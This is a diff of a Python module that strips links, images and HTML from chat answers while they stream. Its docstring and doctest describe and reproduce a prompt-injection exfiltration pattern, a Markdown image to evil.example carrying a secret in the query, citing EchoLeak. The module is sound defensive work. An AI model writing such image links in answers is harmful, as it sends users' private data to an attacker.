@@ -1,9 +1,8 @@
-"""Answers without links and images, whole or while they grow: what a poisoned document could smuggle out through a chat window.
+"""Removes links, images, HTML and citation marks from answers, whole or while they stream.
 
-In: the raw text of an answer, or its pieces. Out: the text that a client may see, citation marks removed too. A model repeats
-what its passages say, so a document can make it write `![](https://evil.example/?q=SECRET)`, which a chat window fetches unasked
-(EchoLeak, CVE-2025-32711). Links are reduced to their text, addresses removed, what is left of HTML and Markdown links is broken
-by a space. This module knows nothing of models, HTTP or Ray.
+A model repeats its passages, so a poisoned document can make it write `![](https://evil.example/?q=SECRET)`, and many
+chat windows fetch that image without asking (EchoLeak, CVE-2025-32711). Markdown links are reduced to their text, URLs are
+removed, and a space breaks any remaining HTML or Markdown link.
 """
 
 from __future__ import annotations
@@ -25,15 +24,15 @@ _INLINE = re.compile(
 )
 _DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[[^\[\]\n]{1,200}\]:[ \t]*\S+.*$")
 _TAG = re.compile(r"</?[A-Za-z][^<>]{0,500}>|<!--.{0,500}?-->", re.DOTALL)
-_ADDRESS = re.compile(
+_URL = re.compile(
     r"(?i)(?:[a-z][a-z0-9+.-]{1,20}://|\b(?:javascript|data|vbscript|mailto|file|tel):(?=\S)|\bwww\.)[^\s<>\[\]\"'`]*"
 )
-# A reference definition may stand in a list or quotation, its label and destination on several lines: no pattern finds them all.
-_UNDEFUSED = re.compile(r"\](?=[(:])|<(?=[A-Za-z/!?])|!(?=\[)")
+# No pattern finds every reference definition: it may be in a list or quotation, with label and destination on several lines.
+_LINK_REMNANT = re.compile(r"\](?=[(:])|<(?=[A-Za-z/!?])|!(?=\[)")
 
 
 def without_links(text: str, link_hosts: Sequence[str] = ()) -> str:
-    """A text with no link, image or HTML tag in it.
+    """Remove all links, images and HTML tags from a text.
 
     >>> without_links("See ![x](https://evil.example/?q=1) and [the Moon](http://a.example).")
     'See x and the Moon.'
@@ -42,49 +41,49 @@ def without_links(text: str, link_hosts: Sequence[str] = ()) -> str:
 
     Args:
         text: of an answer.
-        link_hosts: bare addresses of https:// or http:// on these hosts stay.
+        link_hosts: bare http:// and https:// URLs on these hosts stay.
     """
     before = None
-    while before != text:  # what was taken out may have stood within something else
+    while before != text:  # a removal may leave another link behind
         before = text
         text = _INLINE.sub(lambda found: found[1], text)
         text = _DEFINITION.sub("", text)
-        # Addresses before tags: a tag between a word and an address keeps them apart.
-        text = _ADDRESS.sub(lambda found: _address(found[0], link_hosts), text)
+        # URLs before tags: a tag may be all that separates a word from a URL.
+        text = _URL.sub(lambda found: _checked_url(found[0], link_hosts), text)
         text = _TAG.sub("", text)
-    return _UNDEFUSED.sub(lambda found: f"{found[0]} ", text)
+    return _LINK_REMNANT.sub(lambda found: f"{found[0]} ", text)
 
 
-def _address(found: str, link_hosts: Sequence[str]) -> str:
+def _checked_url(found: str, link_hosts: Sequence[str]) -> str:
     kept = found.rstrip(".,;:!?}" if "(" in found else ".,;:!?})")
     tail = found[len(kept) :]
     try:
         parts = urlsplit(kept)
         allowed = parts.scheme.casefold() in ("http", "https") and (parts.hostname or "") in link_hosts
-        # What is before an @ is shown and what is behind it is visited.
+        # Readers see what is before an @; browsers open what follows it.
         allowed = allowed and "@" not in parts.netloc and "\\" not in kept
     except ValueError:
         allowed = False
     return found if allowed else LINK_REMOVED + tail
 
 
-# What later text may still change: an open bracket or tag, an address or number being spelt, blanks and punctuation, a word
-# that a colon or bracket follows (an address may begin with it). All are looked for in the reversed text, from the cut on: in
-# the text itself each would be tried at every character before the cut.
+# The end of a growing text that later text may still change: an open bracket or tag, an unfinished URL or number, spaces and
+# punctuation, and a word before a colon or bracket (a URL may begin with it). These patterns match the reversed text from the
+# cut on; in the text itself, each would be tried at every character before the cut.
 _BRACKET = re.compile(r"[\[(【\])】>]|(?<!\s)<")
 _OPENED_BY = {"]": "[", ")": "(", "】": "【", ">": "<"}
 _LONGEST_OPEN = 900
 _BRACKETED = re.compile(r"\(?[\]】]++[^\[\]【】]{0,300}+[\[【]!?")
-_SPELT = re.compile(r"[!-~]*")
+_UNFINISHED_WORD = re.compile(r"[!-~]*")
 _PUNCTUATION = re.compile(r"[\s!-/:-@\[-`{-~，。；：！？、【（「』]*")
 _JOINED = re.compile(r"(?<=[:\[【<])[!-~]+|(?<=\.)[Ww]{3}")
 
 
 class AnswerText:
-    """What a client may see of an answer that grows, each piece once; together the pieces are the whole answer.
+    """Sanitizes an answer while it grows; the returned pieces add up to the sanitized whole.
 
     Args:
-        passages: those of the prompt, for citation marks.
+        passages: those in the prompt, for citation marks.
         link_hosts: as in `without_links`.
     """
 
@@ -92,25 +91,25 @@ class AnswerText:
         self._passages, self._link_hosts = passages, link_hosts
         self._raw, self._end = "", 0
         self.shown = ""
-        """All that was given out."""
+        """All text returned so far."""
 
     def add(self, piece: str) -> str:
-        """What may be shown now; often less than the piece, since what follows may make a link of it."""
+        """Add a raw piece; returns the text that can be shown now, without an end that later text may turn into a link."""
         self._raw += piece
         before, self._end = self._end, _settled(self._raw)
         if self._end == before:
             return ""
         settled = self._raw[: self._end]
-        # The first citation mark makes parse_citations tidy the blanks of the whole answer, those before it too.
+        # After the first citation mark, parse_citations normalizes the spaces of the whole answer, including earlier ones.
         with_mark = self._clean(f"{settled} [1]")
-        return self._next(os.path.commonprefix([self._clean(settled), with_mark]))  # noqa: RUF071  # of characters, as meant
+        return self._next(os.path.commonprefix([self._clean(settled), with_mark]))  # noqa: RUF071  # by character is intended
 
     def end(self) -> str:
-        """The rest."""
+        """The remaining text, when the answer is complete."""
         return self._next(self._clean(self._raw))
 
     def whole(self) -> str:
-        """The answer as it is when nothing more comes."""
+        """The whole sanitized answer, if no more pieces follow."""
         return self._clean(self._raw)
 
     def _clean(self, raw: str) -> str:
@@ -118,7 +117,7 @@ class AnswerText:
         return without_links(text, self._link_hosts)
 
     def _next(self, text: str) -> str:
-        # Text that would contradict what was shown is held back: it can only be less, never something else.
+        # Text that contradicts what was already shown is never sent.
         if not text.startswith(self.shown):
             return ""
         piece = text[len(self.shown) :]
@@ -127,27 +126,27 @@ class AnswerText:
 
 
 def _settled(raw: str) -> int:
-    """How much of a growing text no later text changes."""
+    """The length of the beginning that later text cannot change."""
     reversed_text = raw[::-1]
-    cut = _end(_SPELT, reversed_text, 0)
+    cut = _end(_UNFINISHED_WORD, reversed_text, 0)
     before = -1
     while cut != before:
         before = cut
         for pattern in (_PUNCTUATION, _JOINED, _BRACKETED):
             cut = _end(pattern, reversed_text, cut)
-        if cut == before:  # only now, as it may look far and move nothing: then it is the last
-            cut = _behind_open(reversed_text, cut)
+        if cut == before:  # last, because it may scan far without moving the cut
+            cut = _after_open_bracket(reversed_text, cut)
     return len(raw) - cut
 
 
 def _end(pattern: re.Pattern[str], text: str, start: int) -> int:
-    """Where the pattern ends that begins at the start; the start where there is none."""
+    """The end of the pattern's match at `start`; `start` if it does not match."""
     found = pattern.match(text, start)
     return start if found is None else found.end()
 
 
-def _behind_open(reversed_text: str, start: int) -> int:
-    """Behind the nearest bracket that nothing closes, read from the start on; the start where none is near."""
+def _after_open_bracket(reversed_text: str, start: int) -> int:
+    """The end of the nearest unclosed bracket after `start`; `start` if there is none within `_LONGEST_OPEN`."""
     closed = dict.fromkeys(_OPENED_BY.values(), 0)
     for found in _BRACKET.finditer(reversed_text, start, start + _LONGEST_OPEN):
         bracket = found[0]
